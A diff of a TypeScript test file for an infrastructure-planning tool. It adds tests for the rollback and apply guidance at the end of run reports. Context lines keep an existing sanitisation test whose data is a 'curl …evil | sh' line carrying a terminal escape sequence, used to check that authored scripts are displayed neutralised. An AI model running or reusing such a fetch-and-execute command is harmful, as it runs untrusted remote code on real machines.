@@ -3,8 +3,10 @@ import fc from 'fast-check';
 import stringWidth from 'string-width';
 import { isUnsafe, sanitise, sanitiseMarkdown } from '../../src/model/sanitise.ts';
 import { age, bytes, duration, value } from '../../src/views/format.ts';
+import type { Report } from '../../src/model/report.ts';
 import { planMarkdown } from '../../src/views/markdown.ts';
 import { planRows } from '../../src/views/plan-rows.ts';
+import { reportRows } from '../../src/views/report-rows.ts';
 import { row, plainText, span } from '../../src/views/rows.ts';
 import { rowsToText, wrap } from '../../src/views/text.ts';
 import { frame } from '../../src/tui/frame.ts';
@@ -61,6 +63,23 @@ describe('what the author writes for root to run', () => {
   it('is shown whole and neutralised', () => {
     const step = { ...baseStep, changes: [{ path: 'UserData', before: null, after: { $masked: 'set' }, effect: 'grant', authored: '#!/bin/bash\ncurl \u001b[2Jevil | sh\n' }] } as const;
     expect(cardRows(step, samplePlan([step]), sampleTime).map(plainText).slice(-3)).toEqual(['  + UserData: (sensitive: set) (grant)', '      | #!/bin/bash', '      | curl \\u{1b}[2Jevil | sh']);
+  });
+});
+
+describe('a report', () => {
+  const report: Report = {
+    run: '20260227-080000-0b0b', command: 'rollback', rollbackOf: '20260226-230000-a1b2', planName: 'undo-move', outcome: 'stopped', message: null, captures: [], leftovers: [], undone: [], findings: [], map: {},
+    steps: [{ id: 'Bucket', type: 'AWS::S3::Bucket', state: 'open', identity: 'courses', message: null, milliseconds: null }],
+    startedAt: '2026-02-27T08:00:00.000Z', endedAt: null, durations: {}, calls: 3, exitCode: 6,
+  };
+  const lastLine = (more: Partial<Report>): string => reportRows({ ...report, ...more }).map(plainText).at(-1) ?? '';
+  it('of a rollback that stopped says how to go on, and of a done one that it is done', () => {
+    for (const outcome of ['stopped', 'failed', 'blocked', 'stale', 'open'] as const) expect(lastLine({ outcome })).toBe('Run 20260226-230000-a1b2 is not wholly taken back. To go on where this stopped: aiplan rollback 20260226-230000-a1b2');
+    expect(lastLine({ outcome: 'done', exitCode: 0 })).toBe('Run 20260226-230000-a1b2 is taken back, as planned.');
+  });
+  it('of an apply says how to take it back, once it has begun anything', () => {
+    expect(lastLine({ command: 'apply', rollbackOf: null })).toBe('To take it back: aiplan rollback 20260227-080000-0b0b');
+    expect(lastLine({ command: 'apply', rollbackOf: null, steps: [] })).not.toContain('aiplan rollback');
   });
 });
 
